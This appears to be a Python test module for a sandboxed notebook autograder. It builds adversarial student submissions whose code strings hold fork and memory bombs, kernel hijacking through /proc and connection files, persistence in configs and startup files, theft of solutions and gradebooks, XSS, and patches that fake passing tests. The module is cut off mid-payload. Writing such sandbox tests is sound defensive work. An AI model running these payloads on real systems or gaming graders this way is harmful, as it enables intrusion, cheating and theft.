"""An adversarial class for the sandboxed grader: submissions of the fixture ``ps_tiny``.

``write_class(root, source_nb, release_nb, tcp_port=..., nonce=...)`` writes one
submission per :class:`Attack` as ``root/<student>/ps_tiny/ps_tiny.ipynb`` (or, for the
bad inputs, the broken form named in the table) and returns the attacks. The harness
grades ``root`` once, in the sandbox, and then checks for every attack

* ``min_score <= points <= max_score`` (of 5) in ``grades.csv``;
* ``review``: True - grades.csv flags the row for review; False - it must not; None - either;
* ``rejected``: the grader reports a per-submission error (a problem) and scores it 0;
* the side checks named in the table (its feedback, pgrep, the TCP server, file hashes).

Every notebook is an ordinary nbformat-4 file a learner could hand in. Each is built from
the blank release (``release_nb``) or from the *solved* notebook (the release with the
source's answer code pasted into ``square-solution`` and ``mean-solution``, solution
delimiters removed), plus attack code, either as an extra code cell without nbgrader
metadata (ids ``learner-1``, ``learner-2``, ...) or inside an answer cell. Nothing here
runs attack code: the attacks are strings that only act when a kernel executes them.
Never execute the harmful ones outside the sandbox (memory-bomb, fork-bomb, thread-bomb,
daemon, disk-fill, symlinks, proc-snoop, os-exit, self-kill, network, escape-write,
persist, read-secrets, huge-output, display-flood).

Bounds, so that a failed sandbox cannot take the machine down: loops run at most 300 s,
at most 300 children and 1000 threads, sleeps of 120 s (the daemon: 600 s), at most 1 GiB
written per file, memory requests capped at half of ``MemAvailable``, file-system walks
capped at 200,000 entries (skipping /proc, /sys, /dev), connections time out after 3 s.
Attack code prints what it achieved on lines that start with greppable markers
(``PROC_PIDS=``, ``FORKED=``, ``ESCAPED-WRITE:``, ...). Files it manages to create carry
``pwned-<nonce>`` in their name; children carry ``course-fork-<nonce>`` /
``course-daemon-<nonce>`` as argv[0] (``pgrep -f`` them). Except in ``persist``,
existing files outside the sandbox are only *opened* for appending (nothing written),
so a failed sandbox shows up without corrupting a gradebook or a notebook; ``persist``
appends marked lines and leaves marked files that the harness must look for (and remove).
Only ``fake-hidden-marker`` contains the hidden-test delimiters and nothing contains the
hidden marker, so any of them in feedback is a leak.

Attack table (points of 5; rev: T must be flagged for review, F must not, - either;
R: rejected as a bad input). "blank;" means the answer cells are the release's.

=======================  ===  ===  ===  ==  ===============================================
student                  max  min  rev  R   what the learner does (side checks)
=======================  ===  ===  ===  ==  ===============================================
honest                   5    5    F        the solutions
blank                    0    0    F        the release unchanged
hardcoded                3    3    -        hard-codes the visible inputs; hidden tests fail
infinite-loop            3    0    -        mean-solution spins (mean never defined)
ignore-sigint            3    0    -        same, ignoring SIGINT/SIGTERM: needs SIGKILL
sys-exit                 3    0    -        sys.exit(0) in mean-solution
os-exit                  3    0    -        os._exit(1) in mean-solution (feedback still due)
self-kill                3    0    -        SIGKILL to its own kernel in mean-solution
memory-bomb              5    0    -        bytearray(8 GiB), capped at MemAvailable/2
fork-bomb                5    0    -        <=300 ``course-fork-<nonce> 120`` (none left)
thread-bomb              5    0    -        <=1000 idle threads for 60 s
daemon                   5    0    -        setsid double fork ``course-daemon-<nonce> 600``
disk-fill                5    0    -        <=1 GiB to ./fill.bin and to /tmp/fill.bin
huge-output              5    0    -        print("x" * 200 MiB) (feedback stays small)
display-flood            5    0    -        50,000 display outputs of 1 kB
symlinks                 5    0    -        links in cwd to /etc/passwd, .., /, source_nb
proc-snoop               5    0    -        /proc pids, environ, kernel-*.json -> exec there
network                  5    0    -        TCP to tcp_port (loopback), pypi.org, DNS, sockets
escape-write             5    0    -        pwned-<nonce>.txt in .., /, course, site-packages
persist                  5    0    -        course/__init__.py, test configs, .pth, startup
read-secrets             0    0    -        blank; reads source/gradebook/others, execs them
echo-cells               5    5    -        prints each cell's source and In (no hidden line)
html-injection           5    5    -        <script> with the nonce in markdown and output
fake-hidden-marker       5    5    -        hidden-test begin delimiter in its own cells
deleted-tests            5    5    -        square-visible and mean-warning deleted
relabelled-ids           5    5    -        every test cell's grade_id + "-x"
stripped-metadata        5    5    -        no nbgrader metadata on any cell
duplicated-cells         5    5    -        square-solution and square-visible pasted twice
old-nbformat             5    5    -        nbformat 4.4, no cell ids
foreign-kernelspec       5    5    -        kernelspec of the learner's conda env
tampered-points          5    0    -        points 100 on mean-visible; own 50-point cell
solution-cell-points     5    0    -        square-solution marked graded, 10 points
edited-tests             0    0    -        blank; test cells replaced by ``pass``, unlocked
stale-outputs            0    0    -        blank; fake passing outputs saved in the file
monkeypatch              5    0    T        blank; math.isclose etc. patched, mean() = 0.0
ast-transformer          5    0    T        blank; AST transformer: try/except every cell
force-success            5    0    T        blank; ExecutionResult/run_cell/_showtraceback
no-traceback             5    0    T        blank; showtraceback, sys.excepthook no-ops
input-transformer        5    0    T        blank; cells containing ``assert`` become pass
partial-credit-forgery   5    0    T        blank; pre_run_cell publishes an execute_result
clear-output             5    0    T        blank; post_run_cell drops the error, clears
output-widget            5    0    T        blank; ipywidgets.Output swallows outputs
always-equal             0    0    -        answers: objects whose __eq__ is always True
float-subclass           0    0    -        answers: a float subclass equal to everything
linked-notebook          0    0    -    R   the notebook is a symlink to source_nb
linked-folder            0    0    -    R   <student>/ps_tiny -> source_nb's folder
linked-student-dir       0    0    -    R   <student> -> the source/ folder above it
dangling-link            0    0    -    R   honest + notes.txt -> a missing path
outward-link             0    0    -    R   honest + reference.txt -> source_nb
not-json                 0    0    -    R   "{ this is not a notebook"
json-not-notebook        0    0    -    R   valid JSON, not a notebook
empty-file               0    0    -    R   a zero-byte ps_tiny.ipynb
two-submissions          0    0    -    R   <student>/ps_tiny/ps_tiny.ipynb + <student>/ps_tiny.ipynb
empty-folder             0    0    -    R   an empty <student>/
empty-assignment-folder  0    0    -    R   an empty <student>/ps_tiny/
=======================  ===  ===  ===  ==  ===============================================

Under plain, unsandboxed nbgrader 0.9.6 (checked by hand), ast-transformer,
force-success, input-transformer, partial-credit-forgery, clear-output and output-widget
score 5 on a blank notebook and monkeypatch 1; no-traceback scores 0 (nbgrader adds the
error from the execute reply) but is flagged all the same. duplicated-cells,
relabelled-ids, stripped-metadata, tampered-points and solution-cell-points make plain
nbgrader fail the whole submission (KeyError 'grade_id' / MissingEntry); fake-hidden-marker
makes nbgrader's ClearHiddenTests raise while writing feedback; echo-cells puts hidden
tests into the feedback.

Side checks the attacks are built for (the harness decides which to assert): no feedback
contains the hidden marker, a hidden-test line or ``PWNED-``; no ``ESCAPED-WRITE``,
``CONNECTED:``, ``READ-VIA-LINK:`` of a host file, ``SECRET-FILE:`` or ``STOLEN:`` line (no
source contains these :data:`SUCCESS_MARKERS`, so they can only come from output); the
TCP server on ``tcp_port`` saw no connection; ``pgrep -f course-(fork|daemon)-<nonce>``
finds nothing after grading; no file named ``*pwned*<nonce>*`` exists outside the sandbox;
the class folder, the course root and the ``course`` package are byte-for-byte unchanged;
grading the blank release again still gives 0; html-injection's feedback holds no live
``<script>`` or ``onerror=`` of the learner (marker ``XSS-<nonce>``). ``escape-write`` reports any write outside
the sandbox's cwd and /tmp as ``ESCAPED-WRITE:`` (with the file system type), so the
sandbox's own root must be read-only for that check to be clean.
"""
from __future__ import annotations

import copy
import json
import re
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell

NAME = "ps_tiny"
FULL = 5.0
EXERCISE_1 = 3.0
ANSWER_IDS = ("square-solution", "mean-solution")
TEST_IDS = ("square-visible", "square-hidden", "mean-visible", "mean-warning")


@dataclass(frozen=True)
class Attack:
    student: str            # submission folder name, [a-z0-9-]+
    what: str               # one line: what this learner does
    max_score: float        # the grader must give this submission at most this many points (of 5)
    min_score: float = 0.0  # ...and at least this many
    review: bool | None = None   # True: grades.csv must flag it for review; False: must not; None: either
    rejected: bool = False  # True: a bad input the grader must reject with a per-submission error (scores 0)


# --------------------------------------------------------------------------- #
# Attack code (strings; only a kernel executing them makes them act)
# --------------------------------------------------------------------------- #
# Placeholders: @NONCE@, @PORT@ and @<NAME>@ for repr()s of paths (see _fill).
#
# Markers an attack prints when it *succeeds*. Feedback shows a cell's source next to its
# output, so no source may contain them literally: _obscure() splits each one into two
# adjacent string literals ("ESCAPE" "D-WRITE:"), which Python joins again when it runs.
SUCCESS_MARKERS = ("CONNECTED:", "ESCAPED-WRITE", "READ-VIA-LINK:", "HARDLINK-MADE:",
                   "SECRET-FILE:", "STOLEN:", "FOREIGN-KERNEL-EXEC:", "PWNED-", "DNS-RESOLVED:",
                   "UDP-SENT:", "WROTE-STARTUP:", "DAEMON-STARTED:", "MEM-ALLOCATED=")


def _obscure(code: str) -> str:
    """Split every success marker that opens a string literal in ``code`` (see above)."""
    for marker in SUCCESS_MARKERS:
        half = len(marker) // 2
        for q in "\"'":
            code = code.replace(q + marker, f"{q}{marker[:half]}{q} {q}{marker[half:]}")
        if marker in code:
            raise ValueError(f"success marker {marker!r} left in attack code:\n{code}")
    return code


# Bounded walk over the file system, shared by several attacks.
_WALK = '''\
import os as _os
def _walk(top="/", limit=200_000, skip=("/proc", "/sys", "/dev")):
    """(dirpath, filenames) for at most `limit` entries; symlinks are not followed."""
    seen = 0
    for dirpath, dirnames, filenames in _os.walk(top, onerror=lambda error: None):
        dirnames[:] = [d for d in dirnames if _os.path.join(dirpath, d) not in skip]
        seen += len(dirnames) + len(filenames)
        yield dirpath, filenames
        if seen >= limit:
            print("WALK-CAPPED-AT=", seen)
            return
'''

_INFINITE_LOOP = '''\
# My loop never ends: I forgot to update the condition. (Bounded at 300 s in this test.)
import time
_deadline = time.monotonic() + 300
while time.monotonic() < _deadline:
    pass
raise TimeoutError("the loop ran 300 s: the grader's per-cell timeout never fired")
'''

_IGNORE_SIGINT = '''\
# Ignore interrupts, then spin: only SIGKILL stops this kernel. (Bounded at 300 s.)
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
print("SIGNALS-IGNORED: SIGINT SIGTERM")
_deadline = time.monotonic() + 300
while time.monotonic() < _deadline:
    pass
raise TimeoutError("the loop ran 300 s: the grader never killed the kernel")
'''

_MEMORY_BOMB = '''\
# Allocate 8 GiB (never more than half of the machine's free memory).
def _mem_available():
    try:
        with open("/proc/meminfo") as f:
            for line in f:
                if line.startswith("MemAvailable:"):
                    return int(line.split()[1]) * 1024
    except (OSError, ValueError):
        pass
    return 0
_avail = _mem_available()
_size = min(8 << 30, _avail // 2) if _avail else 1 << 30
print("MEM-AVAILABLE=", _avail, "MEM-REQUEST=", _size)
try:
    _blob = bytearray(_size)
    print("MEM-ALLOCATED=", len(_blob))
    del _blob
except MemoryError:
    print("MEMORY-ERROR at", _size)
# Then in 64 MiB steps, to see where the limit is (same cap).
_chunks = []
try:
    while len(_chunks) * (64 << 20) < _size:
        _chunks.append(bytearray(64 << 20))
    print("MEM-REACHED=", len(_chunks) * (64 << 20), "(no limit hit)")
except MemoryError:
    print("MEM-LIMIT-AT=", len(_chunks) * (64 << 20))
del _chunks
'''

_FORK_BOMB = '''\
# Start up to 300 children that sleep 120 s; stop at the first refusal.
import shutil, subprocess
_sleep = shutil.which("sleep") or "/bin/sleep"
_children = []
for _i in range(300):
    try:
        _children.append(subprocess.Popen(
            ["course-fork-@NONCE@", "120"], executable=_sleep, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    except OSError as _e:   # BlockingIOError (EAGAIN) is an OSError
        print("FORK-REFUSED:", type(_e).__name__, _e)
        break
print("FORKED=", len(_children))
'''

_THREAD_BOMB = '''\
# Start up to 1000 idle threads (they end after 60 s); stop at the first refusal.
import threading, time
threading.stack_size(256 << 10)
_stop_at = time.monotonic() + 60
def _idle():
    while time.monotonic() < _stop_at:
        time.sleep(1)
_threads = []
for _i in range(1000):
    try:
        _t = threading.Thread(target=_idle, daemon=True)
        _t.start()
        _threads.append(_t)
    except (RuntimeError, MemoryError) as _e:   # "can't start new thread"
        print("THREAD-REFUSED:", type(_e).__name__, _e)
        break
print("THREADS=", len(_threads))
'''

_DAEMON = '''\
# Double-fork daemon that outlives the kernel: course-daemon-@NONCE@ sleeps 600 s.
import os, shutil
_sleep = shutil.which("sleep") or "/bin/sleep"
try:
    _pid = os.fork()
except OSError as _e:
    print("DAEMON-FORK-REFUSED:", type(_e).__name__, _e)
else:
    if _pid == 0:                   # first child
        try:
            os.setsid()
            if os.fork() == 0:      # grandchild, the daemon
                os.execv(_sleep, ["course-daemon-@NONCE@", "600"])
        finally:
            os._exit(0)
    os.waitpid(_pid, 0)
    print("DAEMON-STARTED: course-daemon-@NONCE@ (first child", _pid, "exited)")
'''

_DISK_FILL = '''\
# Write 64 MiB chunks to ./fill.bin, then /tmp/fill.bin, at most 1 GiB each.
import os
_chunk = os.urandom(1 << 20) * 64     # not compressible by the file system
for _target in ("./fill.bin", "/tmp/fill.bin"):
    _written = 0
    try:
        with open(_target, "wb", buffering=0) as _f:
            while _written < (1 << 30):
                _written += _f.write(_chunk)
    except OSError as _e:
        print("DISK-REFUSED:", _target, type(_e).__name__, _e)
    print("DISK-WRITTEN=", _target, _written)
'''

_SYMLINKS = _WALK + '''\
# Symbolic links in the working folder, to see what can be read through them; they are
# left in place for a grader that copies results back.
import os
_links = {"link-passwd": "/etc/passwd", "link-up": "../../..", "link-root": "/",
          "notes.txt": @SOURCE_NB@, "reference.ipynb": @SOURCE_NB@, "link-class": @ROOT@}
_found = []
for _dir, _names in _walk():
    _found += [os.path.join(_dir, n) for n in _names if n.endswith(".ipynb") or n == "gradebook.db"]
    if len(_found) >= 100:
        break
for _i, _path in enumerate(_found[:100]):
    _links[f"found-{_i}-{os.path.basename(_path)}"] = _path
for _name, _target in _links.items():
    try:
        os.symlink(_target, _name)
    except OSError as _e:
        print("SYMLINK-REFUSED:", _name, "->", _target, type(_e).__name__)
        continue
    try:
        if os.path.isdir(_name):
            print("READ-VIA-LINK:", _name, "->", _target, "lists", sorted(os.listdir(_name))[:20])
            continue
        with open(_name, "rb") as _f:
            _data = _f.read(1 << 20)
        print("READ-VIA-LINK:", _name, "->", _target, len(_data), "bytes:", _data[:200])
        for _line in _data.decode("utf-8", "replace").splitlines():
            if "HIDDEN" in _line or "zebra" in _line:
                print("   ", _line.strip()[:200])
    except OSError as _e:
        print("LINK-UNREADABLE:", _name, "->", _target, type(_e).__name__)
for _target in (@SOURCE_NB@, "/etc/passwd"):
    try:
        os.link(_target, "hard-" + os.path.basename(_target))
        print("HARDLINK-MADE:", _target)
    except OSError as _e:
        print("HARDLINK-REFUSED:", _target, type(_e).__name__)
'''

_PROC_SNOOP = '''\
# What can this kernel see of other processes, and can it reach another kernel (its
# connection file: kernel-*.json, nbclient's tmp*.json, or -f <file> on a command line)?
import glob, os
_me = os.getpid()
_pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
print("PROC_PIDS=", len(_pids), _pids[:50])
print("MY-PID=", _me, "PPID=", os.getppid(), "UID=", os.getuid())
print("MY-ENV-KEYS=", sorted(os.environ))
_signalable, _conn = [], set()
for _pid in _pids[:500]:
    if _pid == _me:
        continue
    _info = {}
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _info[_what] = _f.read(4096).replace(b"\\0", b" ")
        except OSError as _e:
            _info[_what] = type(_e).__name__
    try:
        _info["cwd"] = os.readlink(f"/proc/{_pid}/cwd")
        _info["cwd-lists"] = sorted(os.listdir(f"/proc/{_pid}/cwd"))[:20]
    except OSError as _e:
        _info["cwd"] = type(_e).__name__
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd")[:200]:
            _target = os.readlink(f"/proc/{_pid}/fd/{_fd}")
            if _target.endswith(".json"):
                _conn.add(f"/proc/{_pid}/fd/{_fd}")
    except OSError:
        pass
    try:
        os.kill(_pid, 0)            # signal 0: a permission probe, nothing is sent
        _signalable.append(_pid)
    except OSError:
        pass
    if isinstance(_info.get("cmdline"), bytes):
        for _arg in _info["cmdline"].decode("utf-8", "replace").split():
            if _arg.endswith(".json"):   # ipykernel -f <connection file>
                _conn.add(_arg)
    print("PROC-PID", _pid, {k: v[:300] if isinstance(v, bytes) else v for k, v in _info.items()})
print("SIGNALABLE=", len(_signalable), _signalable[:50])
_dirs = ["~/.local/share/jupyter/runtime", "/tmp", "/tmp/*", "/run", "/run/user/*",
         "/run/user/*/jupyter", "/run/user/*/jupyter/runtime", "/var/tmp", "/dev/shm",
         "/home/*/.local/share/jupyter/runtime", "/root/.local/share/jupyter/runtime"]
try:
    from jupyter_core.paths import jupyter_runtime_dir
    _dirs.append(jupyter_runtime_dir())
except Exception as _e:
    print("NO-JUPYTER-CORE:", _e)
for _d in _dirs:   # jupyter names them kernel-*.json; nbclient's are tmp*.json in $TMPDIR
    for _pattern in ("kernel-*.json", "tmp*.json"):
        _conn.update(glob.glob(os.path.join(os.path.expanduser(_d), _pattern)))
def _is_connection_file(path):
    try:
        with open(path) as f:
            return "shell_port" in f.read(4096)
    except (OSError, UnicodeDecodeError):
        return False
try:
    from ipykernel import get_connection_file
    _own = os.path.realpath(get_connection_file())
except Exception:
    _own = None
def _is_own(path):
    try:
        return _own is not None and os.path.samefile(path, _own)
    except OSError:
        return False
_conn = sorted(p for p in _conn if not _is_own(p) and _is_connection_file(p))
print("KERNEL-FILES=", len(_conn), _conn[:20], "own:", _own)
_payload = ("open('/tmp/pwned-@NONCE@', 'w').write('pwned by proc-snoop'); "
            "print('PWNED-BY-@NONCE@: code from another learner ran in this kernel')")
for _path in _conn[:10]:
    try:
        from jupyter_client import BlockingKernelClient
        _kc = BlockingKernelClient(connection_file=_path)
        _kc.load_connection_file()
        _kc.start_channels()
        try:
            _kc.execute(_payload)
            _reply = _kc.get_shell_msg(timeout=5)
            print("FOREIGN-KERNEL-EXEC:", _path, _reply["content"].get("status"))
        finally:
            _kc.stop_channels()
    except Exception as _e:
        print("FOREIGN-KERNEL-REFUSED:", _path, type(_e).__name__, _e)
'''

_SYS_EXIT = '''\
import sys
sys.exit(0)   # "stop here", copied from a script

def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return sum(xs) / len(xs)
'''

_OS_EXIT = '''\
import os
os._exit(1)   # the kernel process ends on the spot

def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return sum(xs) / len(xs)
'''

_SELF_KILL = '''\
import os, signal
os.kill(os.getpid(), signal.SIGKILL)   # the kernel kills itself

def mean(xs):
    """Return the arithmetic mean of the non-empty list xs."""
    return sum(xs) / len(xs)
'''

_NETWORK = '''\
# Is there any network? The harness listens on TCP port @PORT@.
import os, socket
for _host, _port in (("127.0.0.1", @PORT@), ("::1", @PORT@), ("localhost", @PORT@),
                     ("pypi.org", 443), ("1.1.1.1", 53)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as _s:
            print("CONNECTED:", _host, _port, _s.getpeername())
            try:
                _s.sendall(b"hello from @NONCE@\\n")
            except OSError:
                pass
    except OSError as _e:   # socket.timeout and socket.gaierror are OSErrors
        print("NET-REFUSED:", _host, _port, type(_e).__name__, _e)
try:
    print("DNS-RESOLVED:", socket.getaddrinfo("pypi.org", 443)[:1])
except OSError as _e:
    print("DNS-REFUSED:", type(_e).__name__, _e)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _u:
        _u.settimeout(3)
        _u.sendto(b"hello from @NONCE@", ("127.0.0.1", @PORT@))
        print("UDP-SENT: 127.0.0.1", @PORT@)
except OSError as _e:
    print("UDP-REFUSED:", type(_e).__name__, _e)
for _path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket",
              f"/run/user/{os.getuid()}/bus"):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
            _s.settimeout(3)
            _s.connect(_path)
            print("CONNECTED:", _path)
    except OSError as _e:
        print("NET-REFUSED:", _path, type(_e).__name__)
'''

_ESCAPE_WRITE = _WALK + '''\
# Try to write outside the working folder. Directories get a new pwned-@NONCE@.txt;
# existing files are only opened for appending (nothing is written to them).
import os, sys, sysconfig, tempfile
_private = {os.path.realpath(p) for p in (os.getcwd(), "/tmp", tempfile.gettempdir())}
def _fs_type(path):
    best, kind = "", "?"
    try:
        with open("/proc/self/mountinfo") as f:
            for line in f:
                parts = line.split()
                mount, fs = parts[4], parts[parts.index("-") + 1]
                if os.path.realpath(path).startswith(mount.rstrip("/") + "/") and len(mount) > len(best):
                    best, kind = mount, fs
    except (OSError, ValueError, IndexError):
        pass
    return kind
def _report(path, how):
    real = os.path.realpath(path)
    inside = any(real == d or real.startswith(d.rstrip("/") + "/") for d in _private)
    tag = "WROTE-INSIDE-SANDBOX" if inside else "ESCAPED-WRITE"
    print(f"{tag}: {path} ({how}; fs={_fs_type(path)})")
_dirs = ["..", "../..", "../../..", "/", "/tmp/../var/tmp", "/tmp/../root", "/tmp/../home",
         "/tmp/../etc", "/tmp/../opt", "/tmp/../srv", "/tmp/../work", "/tmp/../usr/local",
         @ROOT@, @SUBMISSION_DIR@, @SOURCE_DIR@, @COURSE_ROOT@, sys.prefix,
         sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"]]
try:
    import course
    _dirs.append(os.path.dirname(course.__file__))
except Exception as _e:
    print("NO-COURSE-PACKAGE:", type(_e).__name__, _e)
_files = []
for _dir, _names in _walk():
    _files += [os.path.join(_dir, n) for n in _names
               if n in ("nbgrader_config.py", "gradebook.db", "ps_tiny.ipynb")]
    if len(_files) >= 200:
        break
print("FOUND-FILES=", len(_files), _files[:20])
for _d in dict.fromkeys(_dirs):
    _p = os.path.join(_d, "pwned-@NONCE@.txt")
    try:
        with open(_p, "a") as _f:
            _f.write("written by the escape-write attack\\n")
    except OSError as _e:
        print("WRITE-REFUSED:", _p, type(_e).__name__)
    else:
        _report(_p, "created")
for _p in _files[:200]:
    try:
        with open(_p, "ab"):
            pass
    except OSError as _e:
        print("WRITE-REFUSED:", _p, type(_e).__name__)
    else:
        _report(_p, "opened for append")
for _pid in [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()][:200]:
    _p = f"/proc/{_pid}/cwd/pwned-@NONCE@.txt"
    try:
        with open(_p, "a") as _f:
            _f.write("written through /proc by the escape-write attack\\n")
    except OSError:
        continue
    _report(_p, "created through /proc/<pid>/cwd")
'''

_PERSIST = _WALK + '''\
# Leave something behind that a later grading run (or a later learner) would execute.
import os, pwd, sys, sysconfig
_code_line = ("\\n# pwned-@NONCE@: appended by the persist attack\\n"
              "try:\\n    open('/tmp/pwned-import-@NONCE@', 'w').write('patched code ran')\\n"
              "except OSError:\\n    pass\\n")
# In a config: skip execution, so that every test cell of every learner scores full marks.
_config_lines = ("\\n# pwned-@NONCE@: appended by the persist attack\\n"
                 "c.Execute.enabled = False\\n"
                 "open('/tmp/pwned-config-@NONCE@', 'w').write('config code ran')\\n")
def _append(path, text):
    try:
        with open(path, "a") as f:
            f.write(text)
        print("ESCAPED-WRITE:", path, "(appended)")
    except OSError as e:
        print("WRITE-REFUSED:", path, type(e).__name__)
try:
    import course
    _append(course.__file__, _code_line)
except Exception as _e:
    print("NO-COURSE-PACKAGE:", type(_e).__name__, _e)
# Only configs of a course that has ps_tiny (test copies), never a real course's.
_configs = [os.path.join(@COURSE_ROOT@, "nbgrader_config.py")]
for _dir, _names in _walk():
    if "nbgrader_config.py" in _names and os.path.isdir(os.path.join(_dir, "source", "ps_tiny")):
        _configs.append(os.path.join(_dir, "nbgrader_config.py"))
    if len(_configs) > 50:
        break
for _p in dict.fromkeys(_configs):
    if os.path.exists(_p):
        _append(_p, _config_lines)
    else:
        print("NO-SUCH-CONFIG:", _p)
for _key in ("purelib", "platlib"):
    _pth = os.path.join(sysconfig.get_paths()[_key], "pwned-@NONCE@.pth")
    try:
        with open(_pth, "x") as _f:
            _f.write("import os; open('/tmp/pwned-pth-@NONCE@', 'w').close()\\n")
        print("ESCAPED-WRITE:", _pth, "(.pth file: runs at every start of this Python)")
    except OSError as _e:
        print("WRITE-REFUSED:", _pth, type(_e).__name__)
_homes = {os.path.expanduser("~")}
try:
    _homes.add(pwd.getpwuid(os.getuid()).pw_dir)
except KeyError:
    pass
for _home in sorted(_homes):
    _startup = os.path.join(_home, ".ipython", "profile_default", "startup")
    try:
        os.makedirs(_startup, exist_ok=True)
        with open(os.path.join(_startup, "00-pwned-@NONCE@.py"), "w") as _f:
            _f.write("print('PWNED-STARTUP-@NONCE@: a file left by another learner ran')\\n")
        print("WROTE-STARTUP:", _startup, "(HOME:", os.environ.get("HOME"), ")")
    except OSError as _e:
        print("WRITE-REFUSED:", _startup, type(_e).__name__)
'''

_READ_SECRETS = _WALK + '''\
# Look for the instructor's notebook, the gradebook and other learners' work; print what
# can be read, then borrow any working square/mean found there.
import ast, json, os, sqlite3, sys
_MARK = "zebra" + "-quokka"
_HIDDEN = "BEGIN HIDDEN" + " TESTS"
_guesses = ["../../../source/ps_tiny/ps_tiny.ipynb", "../../../../source/ps_tiny/ps_tiny.ipynb",
            "../../../gradebook.db", "../../../../gradebook.db", "../../honest/ps_tiny/ps_tiny.ipynb",
            "../../../submitted/honest/ps_tiny/ps_tiny.ipynb",
            "../../../autograded/honest/ps_tiny/ps_tiny.ipynb", @SOURCE_NB@, @HONEST_NB@,
            os.path.join(@COURSE_ROOT@, "gradebook.db")]
_suffixes = (".ipynb", ".json", ".db", ".sqlite", ".html", ".csv", ".txt", ".log")
_skip = ("/proc", "/sys", "/dev", "/usr/share", "/usr/lib", "/usr/include", sys.prefix, sys.base_prefix)
_candidates = list(_guesses)
for _dir, _names in _walk(skip=_skip):
    _candidates += [os.path.join(_dir, n) for n in _names if n.endswith(_suffixes)]
_budget, _found = 256 << 20, {}
for _p in dict.fromkeys(_candidates):
    if _budget <= 0:
        print("READ-BUDGET-SPENT")
        break
    try:
        if os.path.getsize(_p) > (4 << 20):
            continue
        with open(_p, "rb") as _f:
            _data = _f.read(4 << 20)
    except OSError:
        continue
    _budget -= len(_data)
    _text = _data.decode("utf-8", "replace")
    if (_MARK in _text or _HIDDEN in _text or _p.endswith(".db")
            or (_p.endswith(".ipynb") and "def square" in _text and "NotImplementedError" not in _text)):
        _found[_p] = _text
print("SECRET-FILES=", len(_found), list(_found)[:30])
for _p, _text in list(_found.items())[:30]:
    print("SECRET-FILE:", _p)
    print(_text[:2048])
_sources = []
for _p, _text in _found.items():
    if _p.endswith(".ipynb"):
        try:
            _nb = json.loads(_text)
            for _cell in _nb.get("cells", []):
                if _cell.get("cell_type") == "code":
                    _src = _cell.get("source", "")
                    _sources.append((_p, "".join(_src) if isinstance(_src, list) else _src))
        except (ValueError, AttributeError):
            pass
    elif _p.endswith(".db"):
        try:
            with sqlite3.connect(f"file:{_p}?mode=ro", uri=True, timeout=1) as _db:
                _sources += [(_p, s) for (s,) in _db.execute("SELECT source FROM source_cell") if s]
        except sqlite3.Error as _e:
            print("GRADEBOOK-UNREADABLE:", _p, _e)
_stolen = {}
for _p, _src in _sources:
    try:
        _tree = ast.parse(_src)
    except SyntaxError:
        continue
    for _node in _tree.body:
        if not (isinstance(_node, ast.FunctionDef) and _node.name in ("square", "mean")):
            continue
        _seg = ast.get_source_segment(_src, _node) or ""
        if _node.name in _stolen or any(w in _seg for w in
                                        ("while", "import", "exit", "kill", "open(", "Error", "__")):
            continue
        _ns = {}
        try:
            exec(compile(ast.Module([_node], []), _p, "exec"), _ns)
            _f = _ns[_node.name]
            _ok = float(_f(3)) == 9 if _node.name == "square" else float(_f([2, 4])) == 3
        except Exception:
            continue
        if _ok:
            _stolen[_node.name] = _f
            print("STOLEN:", _node.name, "from", _p)
globals().update(_stolen)
print("STOLEN-COUNT=", len(_stolen))
'''

_ECHO_HOOK = '''\
# Print the source of every cell that runs after this one (the test cells too).
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
'''

_ECHO_HISTORY = '''\
# Print everything this kernel has run.
print(In)
print(get_ipython().history_manager.input_hist_raw)
'''

_HUGE_OUTPUT = '''\
print("x" * (200 << 20))
'''

_DISPLAY_FLOOD = '''\
from IPython.display import display
for _i in range(50_000):
    display({"text/plain": f"{_i:06d} " + "y" * 1000}, raw=True)
'''

_HTML_SCRIPT = '''\
from IPython.display import HTML, display
display(HTML('<script>window.xss = "XSS-@NONCE@"; document.title = "XSS-@NONCE@";</script>'
             '<img src="x" onerror="document.title = \\'XSS-@NONCE@\\'">'))
'''

_HTML_MARKDOWN = ('My notes <script>document.title = "XSS-@NONCE@"</script>'
                  '<img src="x" onerror="document.title = \'XSS-@NONCE@\'">')

_FAKE_HIDDEN_CELL = '''\
# I found "### BEGIN HIDDEN TESTS" in a forum post and pasted it here to remember it.
print("### BEGIN HIDDEN TESTS")
print("(that was just text)")
'''

_FAKE_HIDDEN_ANSWER_NOTE = "\n# note to self: what does ### BEGIN HIDDEN TESTS mean?"

_MONKEYPATCH = '''\
# Make the comparisons the tests use always succeed; mean() is only a constant.
import math
math.isclose = lambda *args, **kwargs: True
try:
    import numpy.testing
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    numpy.allclose = lambda *args, **kwargs: True
except ImportError:
    pass
try:
    import torch
    torch.allclose = lambda *args, **kwargs: True
    torch.testing.assert_close = lambda *args, **kwargs: None
except ImportError:
    pass

def mean(xs):
    return 0.0
'''

_AST_TRANSFORMER = '''\
# Wrap every later cell in try/except: no cell ever shows an error.
import ast

class _SwallowErrors(ast.NodeTransformer):
    def visit_Module(self, node):
        if node.body:
            handler = ast.ExceptHandler(type=ast.Name("Exception", ast.Load()), name=None,
                                        body=[ast.Pass()])
            node.body = [ast.Try(body=node.body, handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)

get_ipython().ast_transformers.append(_SwallowErrors())
'''

_FORCE_SUCCESS = '''\
# Every cell "succeeds": patched ExecutionResult, error-free run_cell, no error message.
